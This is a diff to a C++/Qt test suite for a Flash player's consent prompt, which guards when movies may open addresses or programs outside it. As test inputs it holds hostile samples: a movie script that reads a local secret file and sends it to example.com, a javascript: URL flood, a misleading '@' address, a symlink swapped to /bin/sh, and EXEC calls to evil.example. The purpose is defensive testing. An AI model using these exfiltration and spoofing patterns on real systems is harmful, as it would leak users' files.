@@ -3,11 +3,13 @@
 #include "PlayerWindow.h"
 #include "SystemOpener.h"
 #include "flash/FlashControl.h"
+#include "player/SettlingBox.h"
 
 #include <QCheckBox>
 #include <QMessageBox>
 #include <QPushButton>
-#include <QWindow>
+#include <QTest>
+#include <QTimer>
 
 // What movies may open outside the program: a boundary that hostile movies try.
 
@@ -200,36 +202,36 @@ protected:
 
 TEST_F(Asking, OpensForOwnPagesUnaskedAndForOthersOnlyWithConsent)
 {
-    outside.open(page, own);
+    (void)outside.isDeclined(page, own);
     EXPECT_EQ(opened.size(), 1);
     EXPECT_TRUE(asked.isEmpty());
-    outside.open(path("game.exe"), own);
+    (void)outside.isDeclined(path("game.exe"), own);
     EXPECT_EQ(opened.size(), 1) << "a program is not opened for anybody";
 
-    outside.open(page, stranger);
+    (void)outside.isDeclined(page, stranger);
     EXPECT_EQ(asked, QStringList{"/movies/a.swf > http://example.com/"});
     EXPECT_EQ(opened.size(), 1);
     EXPECT_EQ(log.last(), "Not opened, the user declined: http://example.com/");
     answer = Outside::Answer::Open;
-    outside.open(page, stranger);
+    (void)outside.isDeclined(page, stranger);
     EXPECT_EQ(opened.size(), 2);
     EXPECT_EQ(log.last(), "Opened: http://example.com/");
-    outside.open(page, stranger);
+    (void)outside.isDeclined(page, stranger);
     EXPECT_EQ(asked.size(), 3) << "one consent is for one time";
 }
 
 TEST_F(Asking, KeepsADecisionForOneMovieOnly)
 {
     answer = Outside::Answer::AlwaysOpen;
-    outside.open(page, stranger);
+    (void)outside.isDeclined(page, stranger);
     answer = Outside::Answer::AlwaysRefuse;
-    outside.open(page, stranger);
+    (void)outside.isDeclined(page, stranger);
     EXPECT_EQ(opened.size(), 2);
     EXPECT_EQ(asked.size(), 1);
-    outside.open(path("game.exe"), stranger);
+    (void)outside.isDeclined(path("game.exe"), stranger);
     EXPECT_EQ(opened.size(), 2) << "consent does not reach programs";
-    outside.open(page, other);
-    outside.open(page, other);
+    (void)outside.isDeclined(page, other);
+    (void)outside.isDeclined(page, other);
     EXPECT_EQ(asked.size(), 2);
     EXPECT_EQ(opened.size(), 2);
     EXPECT_EQ(log.last(), "Not opened, as decided for the movie: http://example.com/");
@@ -237,14 +239,14 @@ TEST_F(Asking, KeepsADecisionForOneMovieOnly)
 
 TEST_F(Asking, IsNotBuriedByAMovieThatInsists)
 {
-    for (int i = 0; i < 50; ++i) outside.open("javascript:alert(1)", stranger);
+    for (int i = 0; i < 50; ++i) (void)outside.isDeclined("javascript:alert(1)", stranger);
     EXPECT_EQ(told.size(), 1);
     EXPECT_EQ(log.size(), 1);
     whileAsked = [this] {
-        for (int i = 0; i < 50; ++i) outside.open("http://example.com/again", stranger);
+        for (int i = 0; i < 50; ++i) (void)outside.isDeclined("http://example.com/again", stranger);
     };
     answer = Outside::Answer::Open;
-    outside.open(page, stranger);
+    (void)outside.isDeclined(page, stranger);
     EXPECT_EQ(asked.size(), 1);
     EXPECT_EQ(opened.size(), 1);
 }
@@ -258,7 +260,7 @@ TEST_F(Asking, TellsWhyItRefuses)
                                                   {"//server/a.txt", Refusal::OtherMachine},
                                                   {"http://good.com@evil.com/", Refusal::Misleading}};
     for (const auto& [target, refusal] : kCases) {
-        outside.open(target, {"/movies/" + QString::number(refusals.size()), false});
+        (void)outside.isDeclined(target, {"/movies/" + QString::number(refusals.size()), false});
         EXPECT_EQ(refusals.last(), refusal) << target.toStdString();
     }
 }
@@ -270,7 +272,7 @@ TEST_F(Asking, LooksAgainAtAFileThatWasSwappedMeanwhile)
         QFile::remove(path("readme.txt"));
         QFile::link("/bin/sh", path("readme.txt"));
     };
-    outside.open("readme.txt", {path("a.swf"), false});
+    (void)outside.isDeclined("readme.txt", {path("a.swf"), false});
     EXPECT_EQ(asked.size(), 1);
     EXPECT_TRUE(opened.isEmpty());
 }
@@ -278,92 +280,175 @@ TEST_F(Asking, LooksAgainAtAFileThatWasSwappedMeanwhile)
 constexpr const char* kAsking = R"(<movie version="6" width="100" height="80" rate="20">
   <frame><script>%1; stop();</script></frame></movie>)";
 
-TEST_F(PlayerWindow, AsksBeforeAMovieOpensAnAddress)
+/// Answers the questions that movies bring about, as soon as they let themselves be answered.
+class Answering : public PlayerWindow
 {
+protected:
+    Answering()
+    {
+        QObject::connect(&m_look, &QTimer::timeout, [this] { look(); });
+        m_look.start(10);
+    }
+    void look()
+    {
+        auto* box = qobject_cast<SettlingBox*>(QApplication::activeModalWidget());
+        if (box == nullptr || !box->hasSettled()) return;
+        ++questions;
+        text = box->text();
+        information = box->informativeText();
+        refusesByDefault = box->defaultButton() != nullptr && box->defaultButton()->text() == "Отказать";
+        if (box->checkBox() != nullptr) box->checkBox()->setChecked(always);
+        for (QAbstractButton* candidate : box->buttons())
+            if (candidate->text() == button) return candidate->click();
+        box->reject();
+    }
+    /// For as long as a question would take to come and be answered.
+    static void letPass()
+    {
+        QElapsedTimer waited;
+        for (waited.start(); waited.elapsed() < SettlingBox::kSettlingMs + 500;)
+            QApplication::processEvents(QEventLoop::AllEvents, 20);
+    }
+    [[nodiscard]] QString asking(const QString& name, const QString& script) const
+    {
+        return compile(name, QString(kAsking).arg(script).toUtf8());
+    }
     SystemOpener system;
+    QString button = "Отказать", text, information;
+    bool always = false, refusesByDefault = false;
+    int questions = 0;
+
+private:
+    QTimer m_look;
+};
+
+TEST_F(Answering, AsksBeforeAMovieOpensAnAddress)
+{
     Player player(application, {});
     player.Form_Load();
-    ASSERT_TRUE(waitFor([&player] { return player.windowHandle()->isExposed(); }));
-    int questions = 0;
-    const auto answerBy = [&](const char* button, bool always) {
-        QTimer::singleShot(0, &player, [&, button, always] {
-            auto* box = qobject_cast<QMessageBox*>(QApplication::activeModalWidget());
-            ASSERT_NE(box, nullptr);
-            ++questions;
-            EXPECT_TRUE(box->text().contains("«&lt;b&gt;ask.swf»")) << "named as it is, not as mark-up";
-            EXPECT_TRUE(box->informativeText().contains("example.com"));
-            EXPECT_EQ(box->defaultButton()->text(), "Отказать");
-            box->checkBox()->setChecked(always);
-            for (QAbstractButton* candidate : box->buttons())
-                if (candidate->text() == button) candidate->click();
-        });
-    };
-    QFile::rename(compile("ask", QString(kAsking).arg("getURL(\"http://example.com/\")").toUtf8()),
+    QFile::rename(asking("ask", "getURL(\"http://example.com/\"); getURL(\"http://example.com/2\")"),
                   path("<b>ask.swf"));
-    answerBy("Отказать", false);
     player.LoadFlash(path("<b>ask.swf"), {});
-    EXPECT_EQ(questions, 1);
+    EXPECT_TRUE(waitFor([this] { return questions == 1; }));
+    EXPECT_TRUE(text.contains("«&lt;b&gt;ask.swf»")) << "named as it is, not as mark-up";
+    EXPECT_TRUE(information.contains("example.com"));
+    EXPECT_FALSE(information.contains("читал файлы"));
+    EXPECT_TRUE(refusesByDefault);
+    letPass();
+    EXPECT_EQ(questions, 1) << "what was refused is not asked again";
     EXPECT_TRUE(system.opened.isEmpty());
-    answerBy("Открыть", true);
+
+    button = "Открыть";
+    always = true;
     player.LoadFlash(path("<b>ask.swf"), {});
+    EXPECT_TRUE(waitFor([this] { return questions == 2; })) << "but when the movie is opened anew";
+    EXPECT_TRUE(waitFor([this] { return system.opened.size() == 1; }));
+    player.LoadFlash(path("<b>ask.swf"), {});
+    EXPECT_TRUE(waitFor([this] { return system.opened.size() == 2; }));
     EXPECT_EQ(questions, 2);
-    player.LoadFlash(path("<b>ask.swf"), {});
-    EXPECT_EQ(system.opened, (QStringList{"http://example.com/", "http://example.com/"}));
     EXPECT_TRUE(log().contains("Opened: http://example.com/"));
 }
 
-TEST_F(PlayerWindow, HasItsWindowBeforeAMovieAsks)
+TEST_F(Answering, SaysWhenTheMovieHasReadFiles)
 {
-    const SystemOpener system;
-    const QString asking = compile("early", QString(kAsking).arg("getURL(\"http://example.com/\")").toUtf8());
-    Player player(application, '"' + asking + '"');
+    Player player(application, {});
     player.Form_Load();
-    EXPECT_TRUE(player.isVisible());
-    bool asked = false;
-    EXPECT_TRUE(waitFor([&] {
-        QTimer::singleShot(10, &player, [&asked] {
-            if (auto* box = qobject_cast<QDialog*>(QApplication::activeModalWidget())) {
-                asked = true;
-                box->reject();
-            }
-        });
-        return asked;
-    }));
+    QFile secret(path("secret.txt"));
+    ASSERT_TRUE(secret.open(QFile::WriteOnly));
+    secret.write("a=b");
+    secret.close();
+    player.LoadFlash(asking("reads",
+                            "loadVariables(\"secret.txt\", _root); _root.onEnterFrame = function () {"
+                            " if (_root.a == \"b\") { getURL(\"http://example.com/?\" + _root.a);"
+                            " delete _root.onEnterFrame; } }"),
+                     {});
+    EXPECT_TRUE(waitFor([this] { return questions == 1; }));
+    EXPECT_TRUE(information.contains("читал файлы"));
+}
+
+TEST_F(Answering, OnlyAHandThatHasSeenTheQuestionAnswersIt)
+{
+    questions = -1000; // this test answers for itself
+    button = "nothing";
+    Player player(application, {});
+    player.Form_Load();
+    const QString movie = asking("ask", "getURL(\"http://example.com/\")");
+    QElapsedTimer shown;
+    bool early = false, closed = false;
+    QTimer hammer;
+    QObject::connect(&hammer, &QTimer::timeout, [&] {
+        auto* box = qobject_cast<SettlingBox*>(QApplication::activeModalWidget());
+        if (box == nullptr) {
+            closed = closed || shown.isValid();
+            return;
+        }
+        if (!shown.isValid()) shown.start();
+        if (shown.elapsed() > SettlingBox::kSettlingMs - 100) return;
+        early = true;
+        for (QAbstractButton* candidate : box->buttons()) {
+            QTest::mouseClick(candidate, Qt::LeftButton);
+            QTest::keyClick(candidate, Qt::Key_Space);
+        }
+        for (const Qt::Key key : {Qt::Key_Return, Qt::Key_Escape, Qt::Key_O}) QTest::keyClick(box, key);
+    });
+    hammer.start(30);
+    player.LoadFlash(movie, {});
+    EXPECT_TRUE(waitFor([&] { return shown.isValid(); }));
+    EXPECT_TRUE(waitFor([&] { return questions > -1000; })) << "afterwards it can be answered";
+    EXPECT_TRUE(early);
+    EXPECT_GE(shown.elapsed(), SettlingBox::kSettlingMs - 100);
     EXPECT_TRUE(system.opened.isEmpty());
 }
 
-TEST_F(PlayerWindow, DoesNotLetAMovieSpeakInAPagesName)
+TEST_F(Answering, HasItsWindowBeforeAMovieAsks)
 {
-    SystemOpener system;
-    QFile::copy(compile("own", QString(kAsking).arg("fscommand(\"EXEC\", \"http://own.example/\")").toUtf8()),
-                path("media/gadgets/own.swf"));
+    const QString early = asking("early", "getURL(\"http://example.com/\")");
+    Player player(application, '"' + early + '"');
+    player.Form_Load();
+    EXPECT_TRUE(player.isVisible());
+    EXPECT_TRUE(waitFor([this] { return questions == 1; }));
+    EXPECT_TRUE(system.opened.isEmpty());
+}
+
+TEST_F(Answering, DoesNotLetAMovieSpeakInAPagesName)
+{
+    const auto page = [this](const QString& name, const QString& script) {
+        const QString target = path("media/gadgets/" + name + ".swf");
+        QFile::copy(asking(name, script), target);
+        return target;
+    };
+    const QString own = page("own", "fscommand(\"EXEC\", \"http://own.example/\")");
     Player player(application, {});
     player.Form_Load();
-    ASSERT_TRUE(waitFor([&player] { return player.windowHandle()->isExposed(); }));
-    player.LoadFlash(path("media/gadgets/own.swf"), {});
-    EXPECT_EQ(system.opened, QStringList{"http://own.example/"}) << "a page of ours is not asked about";
+    player.LoadFlash(own, {});
+    EXPECT_TRUE(waitFor([this] { return system.opened == QStringList{"http://own.example/"}; }))
+        << "a page of ours is not asked about";
+    EXPECT_EQ(questions, 0);
 
     // The page's words stand in the same queue as the movie's.
-    const auto refuse = [&player] {
-        QTimer::singleShot(0, &player, [] {
-            if (auto* box = qobject_cast<QDialog*>(QApplication::activeModalWidget())) box->reject();
-        });
-    };
-    const QString script =
-        QString("fscommand(\"MEOWSEL\", \"%1\"); fscommand(\"EXEC\", \"http://evil.example/\")")
-            .arg(path("media/gadgets/own.swf"));
-    const QString evil = compile("evil", QString(kAsking).arg(script).toUtf8());
-    refuse();
+    const QString evil = asking("evil", QString("fscommand(\"MEOWSEL\", \"%1\");"
+                                                "fscommand(\"EXEC\", \"http://evil.example/\")")
+                                            .arg(own));
     player.LoadFlash(evil, {});
+    EXPECT_TRUE(waitFor([this] { return questions == 1; }));
     EXPECT_EQ(player.mediaInfo().OriginalPath, evil) << "movies do not load our pages";
     EXPECT_EQ(system.opened.size(), 1);
 
     // Nor by way of a movie that the user opened from a page.
-    const QString from = QString("fscommand(\"MEOWSEL\", \"%1\")").arg(evil);
-    QFile::copy(compile("list", QString(kAsking).arg(from).toUtf8()), path("media/gadgets/list.swf"));
-    refuse();
-    player.LoadFlash(path("media/gadgets/list.swf"), {});
+    player.LoadFlash(page("list", QString("fscommand(\"MEOWSEL\", \"%1\")").arg(evil)), {});
+    EXPECT_TRUE(waitFor([this] { return questions == 2; }));
     EXPECT_EQ(player.mediaInfo().OriginalPath, evil);
+    EXPECT_EQ(system.opened.size(), 1);
+
+    // Nor beside a page, in a layer of its own: a skin may put it there.
+    QStringList commands;
+    const QString speaker = asking("speaker", "_root.onEnterFrame = function () {"
+                                              " fscommand(\"EXEC\", \"http://layer.example/\"); }");
+    player.LoadFlash(page("quiet", "stop()"), {});
+    ASSERT_TRUE(player.control().LoadMovie(1, speaker));
+    EXPECT_TRUE(waitFor([this] { return questions == 3; }));
+    letPass();
+    EXPECT_EQ(questions, 3);
     EXPECT_EQ(system.opened.size(), 1);
 }
 
